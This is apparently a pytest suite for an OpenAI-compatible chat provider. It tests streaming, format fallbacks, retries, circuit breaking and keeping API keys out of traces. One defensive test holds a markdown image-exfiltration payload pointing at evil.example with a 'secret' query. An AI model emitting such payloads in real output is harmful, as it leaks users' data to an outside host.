import asyncio
import json
import time
import traceback
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import replace
from typing import Any

import openai
import pytest
import structlog.testing
from markdown_it import MarkdownIt

from ai_service.errors import ModelBusy, ModelMisconfigured, ModelRefused, ModelTruncated, ModelUnavailable
from ai_service.providers.base import Request
from ai_service.providers.openai import form
from ai_service.providers.openai.prompting import load_prompts
from ai_service.providers.openai.provider import BREAKER_FAILURES, Limits, OpenAiProvider
from assistant.contracts.problems import DomainError
from assistant.dialogue.problems import problem_of
from assistant.testing.chat_completions import Body, Breaks, ChatServer, Fails, Hangs, Says, Streams

Make = Callable[..., OpenAiProvider]
STREAM = "text/event-stream"

REPLY = json.dumps(
    {
        "message_markdown": "Voici **trois cibles** pour votre lancement, à des stades différents.",
        "actions": [],
        "entities_to_create": [
            {"kind": "cible", "label": label, "description": "d", "pourquoi": "p", "maturite": "awareness"}
            for label in ("DSI d’ETI", "RSSI de cliniques", "Dirigeants de PME")
        ],
        "errors": [],
    },
    ensure_ascii=False,
)


def drop(_text: str) -> None:
    """The text is not looked at."""


class TestAReply:
    async def test_comes_back_to_the_letter_with_its_audit(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Says(REPLY))
        raw = await provider().reply(suggestion, drop)
        assert raw.text == REPLY
        assert (raw.provider, raw.model, raw.prompt_version) == ("openai", "scripted-1", "suggest.cible.fr@1/1")
        assert (raw.prompt_tokens, raw.completion_tokens) == (812, 345)
        assert raw.milliseconds >= 0

    async def test_is_asked_for_with_a_strict_schema_and_streamed(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Says(REPLY))
        await provider().reply(suggestion, drop)
        asked = server.requests[0]
        assert asked["stream"] is True
        assert asked["response_format"]["type"] == "json_schema"
        assert asked["response_format"]["json_schema"]["strict"] is True
        assert next(iter(asked["response_format"]["json_schema"]["schema"]["properties"])) == "message_markdown"

    async def test_streams_its_markdown_alone_while_the_json_arrives(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Says(REPLY, pieces=80, pause=0.015))
        seen: list[tuple[str, float]] = []
        await provider().reply(suggestion, lambda text: seen.append((text, time.monotonic())))
        ended = time.monotonic()
        assert "".join(text for text, _ in seen) == json.loads(REPLY)["message_markdown"]
        assert len(seen) > 2
        assert seen[0][1] < ended - 0.1

    async def test_shows_its_first_words_as_soon_as_they_arrive(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        # All within a moment: words that waited for their turn would come in longer pieces than the model's.
        server.plays(Says(REPLY, pieces=len(REPLY) // 2))
        seen: list[str] = []
        await provider().reply(suggestion, seen.append)
        assert len(seen[0]) <= 2
        assert "".join(seen) == json.loads(REPLY)["message_markdown"]

    async def test_streams_markdown_that_can_hold_no_link(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        hostile = json.dumps(
            {"message_markdown": "Voyez ![x](https://evil.example/?q=secret) et <img src=x>", "entities_to_create": []}
        )
        server.plays(Says(hostile, pieces=30))
        seen: list[str] = []
        await provider().reply(suggestion, seen.append)
        html = str(MarkdownIt("commonmark", {"html": True}).render("".join(seen)))
        assert "evil.example" in html
        assert not any(tag in html for tag in ("<a", "<img"))
        assert "://" not in "".join(seen)

    @pytest.mark.parametrize(
        "thought",
        [
            '<think>{"message_markdown": "brouillon", "actions": []}</think>',
            "<think>{x}</think>",
            '<think>{"kind": "cible"}, {}</think>',
            "Voici {le} :\n",
        ],
    )
    @pytest.mark.parametrize("finish", ["stop", None])
    async def test_streams_after_thoughts_with_braces_of_their_own(
        self, provider: Make, server: ChatServer, suggestion: Request, thought: str, finish: str | None
    ) -> None:
        server.plays(Says(thought + REPLY, pieces=40, finish=finish))
        seen: list[str] = []
        await provider().reply(suggestion, seen.append)
        assert "".join(seen) == json.loads(REPLY)["message_markdown"]
        assert len(server.requests) == 1

    @pytest.mark.parametrize(
        "reply", [REPLY, '<think>{"x": 1}</think>{"resume": "Un plan.", "items": [{"format": "x"}]}']
    )
    async def test_says_once_that_its_markdown_is_complete_while_the_rest_arrives(
        self, provider: Make, server: ChatServer, suggestion: Request, reply: str
    ) -> None:
        server.plays(Says(reply, pieces=30, pause=0.02))
        seen: list[tuple[str, float]] = []
        await provider().reply(suggestion, lambda text: seen.append((text, time.monotonic())))
        ended = time.monotonic()
        assert [text for text, _ in seen].count("") == 1
        (last, told) = seen[-1]
        assert last == ""
        assert told < ended - 0.1

    async def test_of_text_alone_says_nothing_of_a_rest(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Says('{"message_markdown": "Bonjour, que puis-je pour vous ?"}'))
        seen: list[str] = []
        await provider().reply(suggestion, seen.append)
        assert "" not in seen

    async def test_comes_whole_from_a_server_that_cannot_stream(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.streams = False
        server.plays(Says(REPLY))
        seen: list[str] = []
        raw = await provider().reply(suggestion, seen.append)
        assert raw.text == REPLY
        assert "".join(seen) == json.loads(REPLY)["message_markdown"]

    async def test_is_whole_again_when_its_characters_arrive_in_halves(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        halves = REPLY.replace("cibles**", "cibles** \ud83d\ude80").replace("lancement", "lancement\ud83d")
        server.plays(Says(halves, pieces=len(halves)))
        raw = await provider().reply(suggestion, drop)
        assert raw.text == REPLY.replace("cibles**", "cibles** 🚀")


def chunk(delta: Any, **others: Any) -> dict[str, Any]:
    return {"choices": [{"index": 0, "delta": delta}], "model": "scripted-1", **others}


def streamed(*chunks: Any) -> Body:
    """A stream of chunks, whatever these are."""
    return Body("".join(f"data: {json.dumps(each)}\n\n" for each in chunks) + "data: [DONE]\n\n", STREAM)


HALVES = (chunk({"content": REPLY[:90]}), chunk({"content": REPLY[90:]}))


class TestAServerOfAnotherKind:
    @pytest.mark.parametrize(
        "odd",
        [
            {"choices": [{"index": 0, "finish_reason": None, "content_filter_offsets": {}}]},
            chunk(None),
            chunk("", usage=[]),
            chunk({}, usage={"prompt_tokens": "many", "completion_tokens": None}),
            chunk({"content": []}),
            {"choices": [None]},
            {"choices": {"index": 0}},
            {"choices": None, "model": None},
            None,
            [],
            "keep-alive",
            7,
        ],
        ids=lambda odd: json.dumps(odd)[:40],
    )
    async def test_is_understood_around_the_odd_things_it_streams(
        self, provider: Make, server: ChatServer, suggestion: Request, odd: Any
    ) -> None:
        server.plays(streamed(odd, HALVES[0], odd, HALVES[1], odd))
        raw = await provider().reply(suggestion, drop)
        assert (raw.text, raw.model, raw.prompt_tokens) == (REPLY, "scripted-1", None)
        assert len(server.requests) == 1

    async def test_may_stream_its_words_in_parts_and_its_figures_bare(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        parts = [{"type": "text", "text": REPLY[:-1]}]
        server.plays(streamed(*(chunk({"content": content}) for content in (parts, ', "odd": ', 7, "}"))))
        assert (await provider().reply(suggestion, drop)).text == REPLY[:-1] + ', "odd": 7}'

    @pytest.mark.parametrize(
        "odd",
        [
            {"finish_reason": None},
            {"finish_reason": "eos_token"},
            {"finish_reason": "stop", "index": "0", "logprobs": 3},
            {"message": {"content": [{"type": "text", "text": REPLY[:90]}, {"type": "text", "text": REPLY[90:]}]}},
        ],
        ids=", ".join,
    )
    @pytest.mark.parametrize(
        "around", [{}, {"usage": {"prompt_tokens": 812}}, {"usage": "none", "model": None, "id": 3, "created": "now"}]
    )
    async def test_may_answer_whole_with_the_reply_and_little_else(
        self, provider: Make, server: ChatServer, suggestion: Request, odd: dict[str, Any], around: dict[str, Any]
    ) -> None:
        server.plays(Body(json.dumps({"choices": [{"message": {"content": REPLY}, **odd}], **around})))
        seen: list[str] = []
        raw = await provider().reply(suggestion, seen.append)
        assert (raw.text, raw.model, raw.failure) == (REPLY, "scripted-1", None)
        assert raw.prompt_tokens == (812 if "prompt_tokens" in str(around) else None)
        assert "".join(seen) == json.loads(REPLY)["message_markdown"]
        assert len(server.requests) == 1

    @pytest.mark.parametrize("streams", [True, False])
    @pytest.mark.parametrize("finish", ["length", "LENGTH", "max_tokens", "model_length"])
    async def test_may_say_in_its_own_word_that_it_cut_a_reply(
        self, provider: Make, server: ChatServer, suggestion: Request, finish: str, streams: bool
    ) -> None:
        server.streams = streams
        server.plays(Says(REPLY[:80], finish=finish))
        assert (await provider().reply(suggestion, drop)).failure is ModelTruncated

    async def test_keeps_of_an_endless_whole_reply_no_more_than_one_needs(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.streams = False
        server.plays(Says(REPLY[:-1] + "x" * 1_000_000))
        raw = await provider().reply(suggestion, drop)
        assert (raw.failure, len(raw.text)) == (ModelTruncated, 40_000)


class TestAServerThatKnowsLess:
    @pytest.mark.parametrize(
        ("refuses", "accepted"),
        [
            (frozenset({"stream_options"}), {"stream": True, "format": "json_schema"}),
            (frozenset({"json_schema"}), {"stream": True, "format": "json_object", "schema": True}),
            (frozenset({"json_schema", "schema"}), {"stream": True, "format": "json_object"}),
            (frozenset({"json_schema", "json_object"}), {"stream": True, "format": None}),
            (frozenset({"response_format"}), {"stream": True, "format": None}),
            (frozenset({"stream"}), {"stream": None, "format": "json_schema"}),
            (frozenset({"stream", "response_format"}), {"stream": None, "format": None}),
        ],
    )
    async def test_is_asked_in_the_form_it_accepts_and_that_is_remembered(
        self, provider: Make, server: ChatServer, suggestion: Request, refuses: frozenset[str], accepted: dict[str, Any]
    ) -> None:
        server.refuses = refuses
        server.plays(Says(REPLY))
        asking = provider()
        assert (await asking.reply(suggestion, drop)).text == REPLY
        server.plays(Says(REPLY))
        assert (await asking.reply(suggestion, drop)).text == REPLY
        assert len(server.requests) == 1
        asked = server.requests[0]
        assert asked.get("stream") == accepted["stream"]
        response_format = asked.get("response_format") or {}
        assert response_format.get("type") == accepted["format"]
        assert ("schema" in response_format) == accepted.get("schema", False)

    @pytest.mark.parametrize(
        "odd", [Fails(400), Fails(400, message="error while opening stream"), Fails(422)], ids=lambda odd: odd.message
    )
    async def test_is_asked_in_the_best_form_again_some_time_after_an_odd_refusal(
        self,
        provider: Make,
        server: ChatServer,
        suggestion: Request,
        monkeypatch: pytest.MonkeyPatch,
        odd: Fails,
    ) -> None:
        monkeypatch.setattr(form, "REMEMBERED", 0.1)
        server.plays(odd, Says(REPLY))
        asking = provider()
        await asking.reply(suggestion, drop)
        await asyncio.sleep(0.1)
        await asking.reply(suggestion, drop)
        asked = server.requests[-1]
        assert (asked["stream"], asked["response_format"]["type"]) == (True, "json_schema")

    async def test_that_refuses_the_schema_of_one_task_is_asked_the_others_in_the_best_form(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(
            Fails(400, message="Invalid schema: objects provided via 'anyOf' must not begin alike"), Says(REPLY)
        )
        asking = provider()
        await asking.reply(replace(suggestion, task="answer", kind=None), drop)
        await asking.reply(suggestion, drop)
        formats = [request["response_format"]["type"] for request in server.requests]
        assert formats == ["json_schema", "json_object", "json_schema"]

    async def test_is_told_the_schema_in_words_without_structured_output(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.refuses = frozenset({"response_format"})
        server.plays(Says(REPLY))
        await provider().reply(suggestion, drop)
        assert '"additionalProperties": false' in server.requests[-1]["messages"][0]["content"]

    async def test_is_told_the_schema_in_words_after_a_reply_that_did_not_heed_it(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Says(REPLY))
        asking = provider()
        await asking.reply(suggestion, drop)
        await asking.reply(suggestion.repairing("{}", ("message_markdown: a text is required",)), drop)
        told = ['"additionalProperties": false' in request["messages"][0]["content"] for request in server.requests]
        assert told == [False, True]

    async def test_is_believed_when_it_refuses_a_form_with_an_error_of_its_own(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(
            Fails(500, message="('body', 'response_format', 'type'): Input should be 'json_object'"), Says(REPLY)
        )
        asking = provider(tries=1)
        await asking.reply(suggestion, drop)
        await asking.reply(suggestion, drop)
        formats = [request["response_format"]["type"] for request in server.requests]
        assert formats == ["json_schema", "json_object", "json_object"]

    async def test_is_asked_in_its_form_again_after_a_reply_cut_short(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.refuses = frozenset({"json_schema"})
        server.plays(Says(REPLY[:80], finish="length"))
        asking = provider()
        for _ in range(2):
            assert (await asking.reply(suggestion, drop)).failure is ModelTruncated
        assert len(server.requests) == 3

    async def test_is_asked_in_its_form_again_after_a_reply_that_took_too_long(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.refuses = frozenset({"json_schema"})
        server.plays(Says(REPLY, pieces=40, pause=0.1))
        asking = provider(deadline=1.5)
        for _ in range(2):
            assert (await asking.reply(suggestion, drop)).failure is ModelTruncated
        assert len(server.requests) == 3

    async def test_streams_on_when_its_error_is_not_about_streaming(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Fails(400, message="rejected upstream"), Says(REPLY))
        await provider().reply(suggestion, drop)
        assert server.requests[-1]["stream"] is True

    async def test_that_fails_without_a_word_while_it_streams_is_asked_for_the_whole_to_hear_why(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Body("", STREAM), Fails(400, "context_length_exceeded"))
        with pytest.raises(ModelMisconfigured):
            await provider().reply(suggestion, drop)
        assert [request.get("stream") for request in server.requests] == [True, None]

    async def test_goes_on_being_asked_to_stream_after_one_empty_stream(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Body("", STREAM), Says(REPLY))
        asking = provider()
        assert (await asking.reply(suggestion, drop)).text == REPLY
        await asking.reply(suggestion, drop)
        assert [request.get("stream") for request in server.requests] == [True, None, True]

    async def test_is_not_asked_worse_for_ever_after_one_passing_failure(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Fails(500), Says(REPLY))
        asking = provider()
        await asking.reply(suggestion, drop)
        assert server.requests[-1]["response_format"]["type"] == "json_schema"


NO_SENSIBLE_WAITS = (
    {"Retry-After": "Wed, 21 Oct 2026 99999999999999999999:28:00 GMT"},
    {"Retry-After": "Wed, 21 Oct 9998 07:28:00 GMT"},
    {"Retry-After": "1e300"},
    {"Retry-After": "1000000000"},
    {"retry-after-ms": "1e300"},
)


class TestPassingFailures:
    @pytest.mark.parametrize(
        "failure",
        [
            Fails(408),
            Fails(409),
            Fails(429, headers={"Retry-After": "0.05"}),
            Fails(403, "rate_limit_exceeded", headers={"Retry-After": "0.05"}),
            Body('data: {"error": {"message": "slower", "code": "rate_limit_exceeded"}}\n\n', STREAM),
            Fails(500),
            Fails(503),
            Breaks(REPLY),
            Body("<html>bad gateway</html>", "text/html"),
            Body('{"choices": []}'),
            Body('{"choices": ' + "[" * 200_000),
            Body('{"created": ' + "9" * 5000 + "}"),
            Body("data: {not json\n\n", STREAM),
            Body("data: " + "[" * 200_000 + "\n\n", STREAM),
            Body("null"),
            Body('["reply"]'),
            Body('{"choices": [null]}'),
            Body('{"choices": {"message": null}}'),
            streamed(None, [], "keep-alive"),
            Says(REPLY[:80], finish="error"),
            Streams((chunk({"content": REPLY[:80]}),)),
        ],
        ids=lambda failure: f"{type(failure).__name__}-{getattr(failure, 'status', '')}",
    )
    async def test_are_tried_again(self, provider: Make, server: ChatServer, suggestion: Request, failure: Any) -> None:
        server.plays(failure, Says(REPLY))
        assert (await provider().reply(suggestion, drop)).text == REPLY
        assert len(server.requests) == 2

    async def test_wait_as_long_as_the_server_asks(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Fails(429, headers={"Retry-After": "0.4"}), Says(REPLY))
        started = time.monotonic()
        await provider().reply(suggestion, drop)
        assert time.monotonic() - started >= 0.4

    async def test_end_as_unavailable_when_they_last(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Fails(500))
        with pytest.raises(ModelUnavailable):
            await provider(tries=3).reply(suggestion, drop)
        assert len(server.requests) == 3

    async def test_end_at_once_when_the_server_asks_for_more_than_the_deadline(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Fails(429, headers={"Retry-After": "120"}))
        started = time.monotonic()
        with pytest.raises(ModelUnavailable) as refused:
            await provider().reply(suggestion, drop)
        assert time.monotonic() - started < 1
        told = problem_of(refused.value, "fr")
        assert (told.code, told.retry_after) == ("model-busy", 120)
        assert told.detail.endswith("réessayez dans 2\u00a0minutes.")

    @pytest.mark.parametrize("headers", NO_SENSIBLE_WAITS)
    async def test_tell_her_of_no_wait_that_makes_no_sense(
        self, provider: Make, server: ChatServer, suggestion: Request, headers: dict[str, str]
    ) -> None:
        server.plays(Fails(429, message="sk-canary-7f3a", headers=headers))
        with pytest.raises(ModelBusy) as refused:
            await provider(tries=2).reply(suggestion, drop)
        assert problem_of(refused.value, "fr").retry_after is None
        assert "sk-" not in "".join(traceback.format_exception(refused.value))

    async def test_that_we_cannot_judge_leave_no_word_of_the_server_in_the_trace(
        self, provider: Make, server: ChatServer, suggestion: Request, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def fail(_error: Exception, _locale: str) -> Exception:
            raise OverflowError

        monkeypatch.setattr("ai_service.providers.openai.provider.judged", fail)
        server.plays(Fails(429, message="sk-canary-7f3a"))
        with pytest.raises(OverflowError) as broken:
            await provider().reply(suggestion, drop)
        assert "sk-" not in "".join(traceback.format_exception(broken.value))

    async def test_hang_no_longer_than_the_timeout_of_a_call(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Hangs(), Says(REPLY))
        assert (await provider().reply(suggestion, drop)).text == REPLY

    async def test_hang_no_longer_than_the_deadline(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Hangs())
        started = time.monotonic()
        with pytest.raises(ModelUnavailable):
            await provider(deadline=0.3).reply(suggestion, drop)
        assert time.monotonic() - started < 0.8

    async def test_of_patience_leave_the_server_alone_when_it_hangs_again_and_again(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Hangs())
        asking = provider(deadline=0.3)
        for _ in range(BREAKER_FAILURES):
            with pytest.raises(ModelUnavailable):
                await asking.reply(suggestion, drop)
        asked = len(server.requests)
        with pytest.raises(ModelUnavailable) as refused:
            await asking.reply(suggestion, drop)
        assert len(server.requests) == asked
        assert problem_of(refused.value, "fr").retry_after == 30

    async def test_of_patience_end_a_reply_that_has_begun_as_cut_off_with_what_came(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Says(REPLY, pieces=40, pause=0.1))
        seen: list[str] = []
        raw = await provider(deadline=1.5).reply(suggestion, seen.append)
        assert raw.failure is ModelTruncated
        assert REPLY.startswith(raw.text)
        assert "".join(seen) in raw.text

    @pytest.mark.parametrize("thought", [{"reasoning_content": "Hm."}, {"role": "assistant"}, {"content": "<think>"}])
    async def test_of_patience_are_no_silence_when_the_model_thinks(
        self, provider: Make, server: ChatServer, suggestion: Request, thought: dict[str, str]
    ) -> None:
        server.plays(Streams((chunk(thought),) * 40, pause=0.05))
        asking = provider(deadline=0.3)
        replies = [await asking.reply(suggestion, drop) for _ in range(BREAKER_FAILURES + 1)]
        assert {raw.failure for raw in replies} == {ModelTruncated}
        assert len(server.requests) == BREAKER_FAILURES + 1

    async def test_of_patience_leave_a_reply_whole_whose_stream_has_no_end(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Streams((*HALVES, *[chunk({})] * 40), pause=0.05))
        raw = await provider(deadline=0.5).reply(suggestion, drop)
        assert (raw.text, raw.failure) == (REPLY, None)

    async def test_take_the_beginning_of_a_text_back_before_it_is_written_anew(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Breaks(REPLY, pieces=10), Fails(500), Says(REPLY, pieces=20))
        seen: list[str | None] = []
        await provider().reply(suggestion, seen.append, lambda: seen.append(None))
        void, _, text = "".join("|" if piece is None else piece for piece in seen).partition("|")
        assert void
        assert text == json.loads(REPLY)["message_markdown"]

    async def test_take_nothing_back_when_nothing_was_written(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Fails(500), Says(REPLY))
        restarts: list[None] = []
        await provider().reply(suggestion, drop, lambda: restarts.append(None))
        assert restarts == []

    @pytest.mark.parametrize(
        "headers",
        [
            {"Retry-After": "0"},
            {"Retry-After": "-5"},
            {"Retry-After": "Wed, 21 Oct 2015 07:28:00 GMT"},
            {"retry-after-ms": "200", "Retry-After": "0"},
            {"retry-after-ms": "soon", "Retry-After": "0.2"},
            *NO_SENSIBLE_WAITS,
        ],
    )
    async def test_wait_as_long_as_is_asked_and_never_less_than_of_their_own(
        self, provider: Make, server: ChatServer, suggestion: Request, headers: dict[str, str]
    ) -> None:
        server.plays(Fails(429, headers=headers), Says(REPLY))
        started = time.monotonic()
        await provider(wait=0.4).reply(suggestion, drop)
        assert 0.2 <= time.monotonic() - started < 2

    async def test_wait_as_long_as_of_their_own_when_less_is_asked(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Fails(429, headers={"Retry-After": "0.001"}), Says(REPLY))
        started = time.monotonic()
        await provider(wait=0.8).reply(suggestion, drop)
        assert time.monotonic() - started >= 0.4


@asynccontextmanager
async def breaking_off(status: int, kind: str) -> AsyncIterator[str]:
    """A server that announces a longer body than it sends; its address."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        head = f"HTTP/1.1 {status} X\r\nContent-Type: {kind}\r\nContent-Length: 500\r\n\r\n"
        writer.write(head.encode() + b'{"choices": [')
        writer.close()

    async with await asyncio.start_server(answer, "127.0.0.1", 0) as listening:
        yield f"http://127.0.0.1:{listening.sockets[0].getsockname()[1]}/v1"


class TestABodyThatBreaksOff:
    @pytest.mark.parametrize("status", [200, 204, 400, 500])
    @pytest.mark.parametrize("kind", ["application/json", STREAM])
    async def test_is_a_passing_failure(self, suggestion: Request, status: int, kind: str) -> None:
        async with (
            breaking_off(status, kind) as url,
            openai.AsyncOpenAI(api_key="k", base_url=url, max_retries=0) as client,
        ):
            limits = Limits(deadline=3, concurrency=1, wait=0.01, tries=2)
            with pytest.raises(ModelUnavailable):
                await OpenAiProvider(client, "scripted-1", load_prompts(), limits).reply(suggestion, drop)


class TestPermanentRefusals:
    @pytest.mark.parametrize(
        ("failure", "setting"),
        [
            (Fails(401, "invalid_api_key", "Incorrect API key provided: sk-canary-7f3a"), "OPENAI_API_KEY"),
            (Fails(403), "OPENAI_API_KEY"),
            (Fails(429, "insufficient_quota"), "OPENAI_API_KEY"),
            (Fails(404, "model_not_found"), "OPENAI_MODEL"),
            (Fails(404), "OPENAI_BASE_URL"),
            (Fails(400, "context_length_exceeded"), "OPENAI_MODEL"),
            (Fails(400), "OPENAI_MODEL"),
            (Fails(400, "invalid_prompt"), "OPENAI_MODEL"),
            (Fails(402), "OPENAI_API_KEY"),
            (Fails(413), "OPENAI_MODEL"),
            (Fails(403, "unsupported_country_region_territory"), "OPENAI_BASE_URL"),
            (Fails(422), "OPENAI_MODEL"),
            (Fails(500, "context_length_exceeded"), "OPENAI_MODEL"),
            (Body('data: {"error": {"message": "sk-canary-7f3a", "code": "insufficient_quota"}}\n\n', STREAM), "KEY"),
        ],
    )
    @pytest.mark.parametrize("locale", ["fr", "en"])
    async def test_name_the_setting_and_never_the_key(
        self, provider: Make, server: ChatServer, failure: Fails | Body, setting: str, locale: Any
    ) -> None:
        server.plays(failure)
        with pytest.raises(ModelMisconfigured) as refused:
            await provider().reply(Request(task="plan", locale=locale), drop)
        shown = problem_of(refused.value, locale)
        assert shown.status == 502
        assert setting in shown.detail
        assert "sk-" not in shown.model_dump_json()
        assert "sk-" not in "".join(traceback.format_exception(refused.value))

    @pytest.mark.parametrize("key", ["sk-canary-7f3a\nrest", "sk-canary-7f3a\x00", "sk-canary-é"])
    async def test_come_at_once_for_a_key_that_cannot_be_sent_and_tell_nothing_of_it(
        self, server: ChatServer, suggestion: Request, key: str
    ) -> None:
        server.plays(Says(REPLY))
        with structlog.testing.capture_logs() as logged:
            async with openai.AsyncOpenAI(api_key=key, base_url=server.base_url, timeout=1, max_retries=0) as client:
                limits = Limits(deadline=3, concurrency=1, wait=0.01)
                with pytest.raises(ModelMisconfigured) as refused:
                    await OpenAiProvider(client, "scripted-1", load_prompts(), limits).reply(suggestion, drop)
        assert "OPENAI_API_KEY" in problem_of(refused.value, "fr").detail
        assert "sk-" not in repr(logged)
        assert "sk-" not in "".join(traceback.format_exception(refused.value))
        assert server.requests == []

    @pytest.mark.parametrize(
        "failure",
        [Fails(429, "insufficient_quota"), Fails(400, "invalid_prompt"), Fails(402), Fails(404), Fails(413)],
        ids=lambda failure: f"{failure.status}-{failure.code}",
    )
    async def test_are_not_tried_again(
        self, provider: Make, server: ChatServer, suggestion: Request, failure: Fails
    ) -> None:
        server.plays(failure)
        with pytest.raises(ModelMisconfigured):
            await provider().reply(suggestion, drop)
        assert len(server.requests) == 1


class TestAFilterBeforeTheModel:
    @pytest.mark.parametrize(
        "failure",
        [
            Fails(400, "content_filter", "filtered: see json_schema"),
            Fails(400, "content_policy_violation"),
            Fails(403, "content_filter"),
            Fails(500, "content_filter"),
            Body('data: {"error": {"message": "no", "code": "content_filter"}}\n\n', STREAM),
        ],
        ids=lambda failure: getattr(failure, "code", None) or "streamed",
    )
    async def test_ends_as_a_refusal_of_the_model_and_changes_nothing_for_the_next_request(
        self, provider: Make, server: ChatServer, suggestion: Request, failure: Fails | Body
    ) -> None:
        server.plays(failure, Says(REPLY))
        asking = provider()
        with pytest.raises(ModelRefused):
            await asking.reply(suggestion, drop)
        assert len(server.requests) == 1
        await asking.reply(suggestion, drop)
        assert server.requests[-1]["response_format"]["type"] == "json_schema"
        assert server.requests[-1]["stream"] is True


class TestRepliesThatStopShort:
    @pytest.mark.parametrize(
        ("step", "error"),
        [
            (Says(REPLY[:80], finish="length"), ModelTruncated),
            (Says("", refusal="I cannot help with that."), ModelRefused),
            (Says(REPLY[:20], finish="content_filter"), ModelRefused),
        ],
    )
    @pytest.mark.parametrize("streams", [True, False])
    async def test_have_their_own_codes_and_are_not_paid_for_again(
        self,
        provider: Make,
        server: ChatServer,
        suggestion: Request,
        step: Says,
        error: type[DomainError],
        streams: bool,
    ) -> None:
        server.streams = streams
        server.plays(step)
        raw = await provider().reply(suggestion, drop)
        assert (raw.failure, raw.text) == (error, step.text or step.refusal)
        assert raw.completion_tokens == 345
        assert len(server.requests) == 1

    async def test_include_those_that_would_never_stop(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Says(REPLY[:-1] + "x" * 10_000_000, pieces=1000, pause=0.001))
        raw = await provider().reply(suggestion, drop)
        assert raw.failure is ModelTruncated
        assert len(raw.text) < 60_000
        assert len(server.requests) == 1


class TestAServerThatHasTooMuchToDo:
    @pytest.mark.parametrize("status", [409, 429])
    async def test_answers_all_the_same_and_is_not_left_alone(
        self, provider: Make, server: ChatServer, suggestion: Request, status: int
    ) -> None:
        busy = Fails(status, headers={"Retry-After": "0.05"})
        server.plays(*[busy] * (2 * BREAKER_FAILURES), Says(REPLY))
        asking = provider(tries=2 * BREAKER_FAILURES)
        replies = await asyncio.gather(*(asking.reply(suggestion, drop) for _ in range(4)))
        assert [raw.text for raw in replies] == [REPLY] * 4

    async def test_has_not_failed_between_its_failures(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(
            *[Fails(500)] * (BREAKER_FAILURES - 1), Fails(429, headers={"Retry-After": "0"}), Fails(500), Says(REPLY)
        )
        assert (await provider(tries=10).reply(suggestion, drop)).text == REPLY


class TestACircuitThatOpened:
    async def test_leaves_the_server_alone_and_says_for_how_long(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Fails(500))
        asking = provider(tries=5)
        with pytest.raises(ModelUnavailable):
            await asking.reply(suggestion, drop)
        server.plays(Says(REPLY))
        with pytest.raises(ModelUnavailable) as refused:
            await asking.reply(suggestion, drop)
        assert server.requests == []
        told = problem_of(refused.value, "fr")
        assert (told.code, told.retry_after) == ("model-unavailable", 30)
        assert told.detail.endswith("réessayez dans 30\u00a0secondes.")

    async def test_lets_everybody_through_as_soon_as_the_server_begins_to_answer(
        self, provider: Make, server: ChatServer, suggestion: Request, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("ai_service.providers.openai.provider.BREAKER_REST", 0.3)
        server.plays(Fails(500))
        asking = provider(tries=BREAKER_FAILURES)
        with pytest.raises(ModelUnavailable):
            await asking.reply(suggestion, drop)
        await asyncio.sleep(0.3)
        server.plays(Says(REPLY, pieces=10, pause=0.1))
        begun = asyncio.Event()
        first = asyncio.create_task(asking.reply(suggestion, lambda _text: begun.set()))
        await asyncio.wait_for(begun.wait(), 3)
        assert (await asking.reply(suggestion, drop)).text == REPLY
        assert (await first).text == REPLY

    async def test_lets_the_next_through_when_the_one_that_tries_is_cancelled(
        self, provider: Make, server: ChatServer, suggestion: Request, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("ai_service.providers.openai.provider.BREAKER_REST", 0.3)
        server.plays(Fails(500))
        asking = provider(tries=BREAKER_FAILURES)
        with pytest.raises(ModelUnavailable):
            await asking.reply(suggestion, drop)
        await asyncio.sleep(0.3)
        server.plays(Hangs(), Says(REPLY))
        trying = asyncio.create_task(asking.reply(suggestion, drop))
        await asyncio.sleep(0.2)
        trying.cancel()
        with pytest.raises(asyncio.CancelledError):
            await trying
        assert (await asking.reply(suggestion, drop)).text == REPLY

